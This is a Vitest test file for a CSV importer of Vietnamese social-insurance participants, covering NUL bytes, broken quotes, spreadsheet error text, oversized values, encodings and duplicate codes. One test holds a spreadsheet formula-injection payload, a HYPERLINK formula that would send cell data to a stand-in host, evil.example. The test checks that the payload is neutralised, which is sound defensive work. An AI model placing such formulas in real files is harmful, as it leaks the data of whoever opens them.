// Hostile and broken input: every data line is imported or rejected with its physical line, and nothing aborts.
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { UserError } from '../../src/errors.js';
import { importParticipants } from '../../src/pipeline/import-participants.js';
import { PARTICIPANT_COLUMNS } from '../../src/pipeline/participant-row.js';
import { databasePerFile, deps, parseCsv, rows, useTempDir } from '../helpers/pipeline.js';

const database = databasePerFile();
const HEADER = PARTICIPANT_COLUMNS.join(',');
const code = (i: number) => String(100_000_000 + i).padStart(10, '0');
const line = (i: number, o: { name?: string; unit?: string; sex?: string; email?: string } = {}) =>
  `${code(i)},${o.name ?? `Nguyễn Văn Số ${i}`},05/03/1990,${o.sex ?? 'Nam'},012345678,${o.unit ?? 'TA0001A'},Cty A,Hà Nội,01,001,1,${o.email ?? 'a@b.vn'}`;

async function importText(text: string | Buffer, options?: { chunkSize?: number }) {
  const { db } = database();
  const dir = await useTempDir();
  const file = path.join(dir, 'people.csv');
  await writeFile(file, text);
  const result = await importParticipants(deps(db), file, undefined, options);
  const [, ...rejected] = await parseCsv(await readFile(result.rejectsFile, 'utf8'));
  const count = (await rows<{ n: number }>(db, 'SELECT count(*)::int AS n FROM participant'))[0]!.n;
  return { result, rejected, count, db, file };
}

describe('import of hostile input', () => {
  it('imports the one row with a NUL byte in its name (row 15 000 of 25 000) without the name, and rejects one in its key', async () => {
    const lines = [HEADER];
    for (let i = 1; i <= 25_000; i++) {
      lines.push(i === 15_000 ? line(i, { name: 'Lê\u0000Thị' }) : i === 16_000 ? line(i).replace(code(i), `${code(i).slice(0, 5)}\u0000${code(i).slice(5)}`) : line(i));
    }
    const { result, rejected, count, db } = await importText(lines.join('\n') + '\n');
    expect(count).toBe(24_999);
    expect(result.inserted).toBe(24_999);
    expect(rejected.map((r) => [r[0], r[1]])).toEqual([['16001', 'field 1 contains a NUL byte']]);
    const [damaged] = await rows<{ ho_ten: string; findings: unknown[] }>(db, 'SELECT ho_ten, findings FROM participant WHERE ma_so_bhxh = $1', [code(15_000)]);
    expect(damaged).toEqual({ ho_ten: '', findings: [{ field: 'name', code: 'control', column: 'ho_ten' }, { field: 'name', code: 'missing' }] });
  });

  it('writes the rejects file so that no spreadsheet runs what the input held: its header and its values', async () => {
    const link = '=HYPERLINK("http://evil.example/?"&A2)';
    const text = [`${HEADER},"${link.replace(/"/g, '""')}"`, `${line(1)},x`, `12-34,"${link.replace(/"/g, '""')}",,,,,,,,,,,x`].join('\n') + '\n';
    const { db } = database();
    const file = path.join(await useTempDir(), 'people.csv');
    await writeFile(file, text);
    const result = await importParticipants(deps(db), file);
    const [header, ...rejected] = await parseCsv((await readFile(result.rejectsFile, 'utf8')).replace(/^\uFEFF/, ''));
    expect(header!.at(-1)).toBe(`'${link.toLowerCase()}`); // the import names columns in lower case
    expect(rejected[0]![3]).toBe(`'${link}`);
    expect([header!, ...rejected].flat().filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  });

  it('rejects a line whose quote never closes, resynchronises at the next record and names no one in the reason', async () => {
    const lines = [HEADER, line(1), `${line(2).replace(/,a@b\.vn$/, '')},"binh@example.vn`, line(3), line(4)];
    const { result, rejected, count } = await importText(lines.join('\n') + '\n');
    expect(count).toBe(3);
    expect(result.rowsRead).toBe(result.inserted + result.rejected);
    expect(rejected.map((r) => [r[0], r[1]])).toEqual([['3', 'unbalanced quote from line 3']]);
    expect(rejected[0]![1]).not.toMatch(/Nguyễn|Số/);
  });

  // A column of =VLOOKUP(…) that failed, saved as CSV from Excel (or LibreOffice): the error's text took the place of
  // the names and dates it looked up. A workbook's error cell refuses its row; its text in a CSV does the same.
  it("rejects a row holding a spreadsheet error's text (#N/A, #VALUE!, Err:502) instead of storing it as a name or a date", async () => {
    const lines = [
      HEADER, line(1, { name: '#N/A' }), line(2), line(3).replace('05/03/1990', '#VALUE!'), line(4, { name: 'Err:502' }), line(5, { name: 'Số #1 Nguyễn' }),
      line(6).replace('05/03/1990', '#ERROR!'), // Google Sheets' text for a formula it cannot parse
    ];
    const { result, rejected, count } = await importText(lines.join('\n') + '\n');
    expect([count, result.rejected]).toEqual([2, 4]);
    expect(rejected.map((r) => [r[0], r[1]])).toEqual([
      ['2', "field 2: #N/A is a spreadsheet's error (a formula that failed), not a value: correct it in the sheet and export again"],
      ['4', "field 3: #VALUE! is a spreadsheet's error (a formula that failed), not a value: correct it in the sheet and export again"],
      ['5', "field 2: Err:502 is a spreadsheet's error (a formula that failed), not a value: correct it in the sheet and export again"],
      ['7', "field 3: #ERROR! is a spreadsheet's error (a formula that failed), not a value: correct it in the sheet and export again"],
    ]);
  });

  it('rejects the lines a broken quote swallowed until one parses as a record again', async () => {
    // Line 3 opens a quote; lines 4–5 are fragments of it; line 6 is a record again.
    const lines = [HEADER, line(1), `${code(2)},"Trần Thị`, 'B, còn tiếp', 'nữa",x', line(6), line(7)];
    const { rejected, count } = await importText(lines.join('\n') + '\n');
    expect(count).toBe(3);
    expect(rejected.map((r) => [r[0], r[1]])).toEqual([
      ['3', 'unbalanced quote from line 3'],
      ['4', 'unbalanced quote from line 3'],
      ['5', 'unbalanced quote from line 3'],
    ]);
  });

  it('counts physical lines: a quoted field holding line breaks does not shift the lines of later rejects', async () => {
    const lines = [HEADER, line(1).replace('Cty A,Hà Nội', 'Cty A,"Số 1\nHà Nội\nViệt Nam"'), line(5).replace(code(5), 'BAD'), line(6)];
    const { rejected, count } = await importText(lines.join('\n') + '\n');
    expect(count).toBe(2);
    expect(rejected.map((r) => [r[0], r[1]])).toEqual([['5', 'ma_so_bhxh must be 10 digits']]);
  });

  it('imports the row of a 3 000-character unit code at row 17 000 of 20 000 without a unit, and the others as they are', async () => {
    const lines = [HEADER];
    for (let i = 1; i <= 20_000; i++) lines.push(i === 17_000 ? line(i, { unit: 'U'.repeat(3000) }) : line(i));
    const { rejected, count, db } = await importText(lines.join('\n') + '\n');
    expect(count).toBe(20_000);
    expect(rejected).toEqual([]);
    const units = await rows<{ ma_don_vi: string | null; n: number }>(db, 'SELECT ma_don_vi, count(*)::int AS n FROM participant GROUP BY 1 ORDER BY 1');
    expect(units).toEqual([{ ma_don_vi: 'TA0001A', n: 19_999 }, { ma_don_vi: null, n: 1 }]);
    const [one] = await rows<{ findings: unknown[] }>(db, 'SELECT findings FROM participant WHERE ma_so_bhxh = $1', [code(17_000)]);
    expect(one!.findings).toEqual([{ field: 'unit', code: 'too_long', column: 'ma_don_vi', length: 3000, limit: 50 }, { field: 'unit', code: 'missing' }]);
  });

  it('takes a value over its column limit as empty, with a finding; rejects a 10 MB line without holding it or storing it as a name', async () => {
    const lines = [HEADER, line(1, { name: 'A'.repeat(201) }), line(2, { email: `${'x'.repeat(250)}@b.vn` }), line(3, { name: 'B'.repeat(10 * 1024 * 1024) }), line(4)];
    const { rejected, count, db } = await importText(lines.join('\n') + '\n');
    expect(count).toBe(3);
    expect(rejected.map((r) => [r[0], r[1]!.replace(/\d{3,}/g, 'N')])).toEqual([
      ['4', 'line is longer than N characters; not read (the first N are kept here)'],
    ]);
    const got = await rows<{ ho_ten: string; email: string | null; findings: unknown[] }>(db, 'SELECT ho_ten, email, findings FROM participant ORDER BY ma_so_bhxh');
    expect(got).toEqual([
      { ho_ten: '', email: 'a@b.vn', findings: [{ field: 'name', code: 'too_long', column: 'ho_ten', length: 201, limit: 200 }, { field: 'name', code: 'missing' }] },
      { ho_ten: 'Nguyễn Văn Số 2', email: null, findings: [{ field: 'email', code: 'too_long', column: 'email', length: 255, limit: 254 }] },
      { ho_ten: 'Nguyễn Văn Số 4', email: 'a@b.vn', findings: [] },
    ]);
  });

  it('takes a value written ="…" (how exports made for Excel keep leading zeros) as the text inside, quoted or not', async () => {
    // Rejected before as 'ma_so_bhxh must be 10 digits': every row of such an export.
    const wrapped = (i: number) => line(i).replace(code(i), `="${code(i)}"`).replace(',012345678,', ',="012345678",');
    const quoted = (i: number) => line(i).replace(code(i), `"=""${code(i)}"""`).replace('Cty A', '"=""Cty A"""');
    const { result, rejected, db } = await importText([HEADER, wrapped(1), quoted(2), line(3).replace(code(3), `="${code(3)}`)].join('\r\n') + '\r\n');
    expect(result).toMatchObject({ rowsRead: 3, inserted: 2, rejected: 1 });
    expect(await rows(db, 'SELECT ma_so_bhxh, so_giay_to FROM participant ORDER BY 1')).toEqual([
      { ma_so_bhxh: code(1), so_giay_to: '012345678' },
      { ma_so_bhxh: code(2), so_giay_to: '012345678' },
    ]);
    expect(await rows(db, 'SELECT DISTINCT ten_don_vi FROM unit')).toEqual([{ ten_don_vi: 'Cty A' }]);
    // Not closed as the form is: the value as it was, refused as a key.
    expect(rejected.map((r) => [r[0], r[1]])).toEqual([['4', 'ma_so_bhxh must be 10 digits']]);
  });

  it('refuses a header that names a column twice, and imports nothing', async () => {
    const { db } = database();
    const dir = await useTempDir();
    const file = path.join(dir, 'twice.csv');
    await writeFile(file, `${HEADER},ho_ten\n${line(1)},Khác\n`);
    await expect(importParticipants(deps(db), file)).rejects.toThrow(/"ho_ten" more than once/);
    expect((await rows(db, 'SELECT 1 FROM participant'))).toHaveLength(0);
  });

  it('says a returned Mẫu 02 given as the participants file is one, with the command that enters it', async () => {
    // Its first row, the issuing office over merged cells, had been read as a header naming a column many times.
    const { db } = database();
    const dir = await useTempDir();
    const file = path.join(dir, 'mau02.csv');
    await writeFile(file, 'BẢO HIỂM XÃ HỘI VIỆT NAM,BẢO HIỂM XÃ HỘI VIỆT NAM,,Mẫu số 02,Mẫu số 02\n1,0100000001,,,\n');
    await expect(importParticipants(deps(db), file)).rejects.toThrow(`is a Mẫu số 02 that ddcn wrote, not a table to import here: a returned Mẫu 02 is entered with \`ddcn import corrections ${file}\``);
    expect(await rows(db, 'SELECT 1 FROM participant')).toEqual([]);
    // The escalation list, which has no Mẫu number: said as a form too, not as a header naming a column twice.
    const hoTro = path.join(dir, 'de-nghi-ho-tro.csv');
    await writeFile(hoTro, 'BẢO HIỂM XÃ HỘI VIỆT NAM,BẢO HIỂM XÃ HỘI VIỆT NAM,,,\n1,0100000001,,,\n');
    await expect(importParticipants(deps(db), hoTro)).rejects.toThrow(`${hoTro} is a form that ddcn wrote (its first row names the issuing office), not a table to import here`);
  });

  it('refuses UTF-16 without a byte-order mark with a clean message', async () => {
    const { db } = database();
    const dir = await useTempDir();
    const file = path.join(dir, 'utf16.csv');
    await writeFile(file, Buffer.from(`${HEADER}\n${line(1)}\n`, 'utf16le'));
    const err = await importParticipants(deps(db), file).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(UserError);
    expect((err as Error).message).toMatch(/UTF-16.*CSV UTF-8/);
    expect((err as Error).message).not.toContain('\u0000');
  });

  it('says UTF-32 as UTF-32, with or without its byte-order mark, either byte order; UTF-16 with a mark stays UTF-16', async () => {
    const { db } = database();
    const dir = await useTempDir();
    const text = `${HEADER}\n${line(1, { name: 'Nguyễn Thị Đào' })}\n`;
    const utf32 = (bom: boolean, bigEndian: boolean) => {
      const points = [...(bom ? '\uFEFF' : '') + text].map((c) => c.codePointAt(0)!);
      const out = Buffer.alloc(points.length * 4);
      points.forEach((p, i) => (bigEndian ? out.writeUInt32BE(p, i * 4) : out.writeUInt32LE(p, i * 4)));
      return out;
    };
    const utf16be = Buffer.from(`\uFEFF${text}`, 'utf16le').swap16();
    for (const [name, bytes, says] of [
      ['le-bom', utf32(true, false), 'UTF-32'], ['be', utf32(false, true), 'UTF-32'], ['le', utf32(false, false), 'UTF-32'],
      ['16le-bom', Buffer.from(`\uFEFF${text}`, 'utf16le'), 'UTF-16'], ['16be-bom', utf16be, 'UTF-16'],
    ] as const) {
      const file = path.join(dir, `${name}.csv`);
      await writeFile(file, bytes);
      const err = await importParticipants(deps(db), file).catch((e: unknown) => e);
      expect([name, (err as Error).message]).toEqual([name, `${file} is ${says} text; save it as "CSV UTF-8 (comma delimited)" and import again`]);
    }
    expect(await rows(db, 'SELECT 1 FROM participant')).toHaveLength(0);
  });

  it('rejects a second row for a code in a later chunk, naming the first line', async () => {
    const lines = [HEADER, line(1), line(2), line(3), line(4), line(5), line(2, { name: 'Bản sao' })];
    const { rejected, count } = await importText(lines.join('\n') + '\n', { chunkSize: 2 });
    expect(count).toBe(5);
    expect(rejected.map((r) => [r[0], r[1]])).toEqual([['7', 'duplicate ma_so_bhxh: already on line 3 of this file']]);
  });
});

describe('sex codes', () => {
  const sexes = async (text: string) => {
    const { db } = await importText(text);
    return rows<{ gioi_tinh: string | null; findings: Array<{ field: string; value?: string }> }>(
      db, 'SELECT gioi_tinh, findings FROM participant ORDER BY ma_so_bhxh');
  };

  it('reads 1/0 as Nam/Nữ in a file that uses 1/0 throughout', async () => {
    const got = await sexes([HEADER, line(1, { sex: '1' }), line(2, { sex: '0' }), line(3, { sex: '0' })].join('\n'));
    expect(got.map((p) => p.gioi_tinh)).toEqual(['M', 'F', 'F']);
  });

  it('reads 1/2 as Nam/Nữ, and a 0 among them as unknown with a finding, never as Nữ', async () => {
    const got = await sexes([HEADER, line(1, { sex: '1' }), line(2, { sex: '2' }), line(3, { sex: '0' })].join('\n'));
    expect(got.map((p) => p.gioi_tinh)).toEqual(['M', 'F', null]);
    expect(got[2]!.findings).toContainEqual({ field: 'sex', code: 'invalid', value: '0' });
  });
});

describe('legacy text', () => {
  it('converts names and unit names typed in TCVN3, VNI or UTF-8 read twice, keeping the original in a finding', async () => {
    const text = [HEADER, line(1, { name: 'NguyÔn V¨n Hïng' }), line(2, { name: 'Nguyeãn Vaên Huøng' }), line(3, { name: 'Nguyá»…n VÄƒn HÃ¹ng' }),
      line(4, { name: 'José Müller' }), line(5, { name: 'Ðinh Thị Ðào' })].join('\n');
    const { db } = await importText(text);
    const got = await rows<{ ho_ten: string; findings: Array<{ code: string; from?: string; value?: string }> }>(
      db, 'SELECT ho_ten, findings FROM participant ORDER BY ma_so_bhxh');
    expect(got.map((p) => p.ho_ten)).toEqual(['Nguyễn Văn Hùng', 'Nguyễn Văn Hùng', 'Nguyễn Văn Hùng', 'José Müller', 'Đinh Thị Đào']);
    expect(got.map((p) => p.findings.find((f) => f.code === 'converted')?.from ?? null)).toEqual(['TCVN3', 'VNI', 'UTF-8', null, null]);
    expect(got[0]!.findings.find((f) => f.code === 'converted')?.value).toBe('NguyÔn V¨n Hïng');
  });

  it('says of a name holding the character U+FFFD itself that a letter was lost before the export, not that the file is not UTF-8', async () => {
    const text = Buffer.concat([Buffer.from(`${HEADER}\n${line(1, { name: 'Nguy\uFFFDn Văn An' })}\n`), Buffer.from(line(2, { name: 'Nguy' })), Buffer.from([0xe5, 0x6e]), Buffer.from(`\n${line(3)}\n`)]);
    const { result, rejected } = await importText(text);
    expect(result).toMatchObject({ rowsRead: 3, inserted: 1, rejected: 2 });
    expect(rejected.map((r) => [r[0], r[1]])).toEqual([
      ['2', 'field 2 holds the character \uFFFD (U+FFFD), put where a conversion before the export lost a letter: correct the value where the file is exported from, and export again'],
      ['3', 'contains bytes that are not UTF-8; save the file as "CSV UTF-8"'],
    ]);
    expect(rejected[0]![3]).toBe('Nguy\uFFFDn Văn An'); // the value as the file has it
  });

  it('reads a quoted header behind a byte-order mark (R, pandas utf-8-sig: every field quoted) as the header', async () => {
    const quoted = (l: string) => l.split(',').map((c) => `"${c}"`).join(',');
    const { result, rejected, count } = await importText(`\uFEFF${quoted(HEADER)}\r\n${quoted(line(1))}\r\n${quoted(line(2)).replace(code(2), 'BAD')}\r\n`);
    expect(count).toBe(1);
    expect(result).toMatchObject({ rowsRead: 2, inserted: 1, rejected: 1 });
    expect(rejected.map((r) => [r[0], r[1]])).toEqual([['3', 'ma_so_bhxh must be 10 digits']]);
  });

  it('takes a first line sep=; (the hint some programs write for Excel) as the separator, not as the header', async () => {
    const semi = (l: string) => l.replaceAll(',', ';');
    const text = ['\uFEFFsep=;', semi(HEADER), semi(line(1)).replace('Cty A', 'Cty A, chi nhánh 2'), semi(line(2)).replace(code(2), 'BAD')].join('\r\n') + '\r\n';
    const { result, rejected, count, db } = await importText(text);
    expect(count).toBe(1);
    expect(result).toMatchObject({ rowsRead: 2, inserted: 1, rejected: 1 });
    expect(rejected.map((r) => [r[0], r[1]])).toEqual([['4', 'ma_so_bhxh must be 10 digits']]); // physical lines: the hint is line 1
    expect(await rows(db, 'SELECT u.ten_don_vi FROM participant p JOIN unit u USING (ma_don_vi)')).toEqual([{ ten_don_vi: 'Cty A, chi nhánh 2' }]);
  });
});
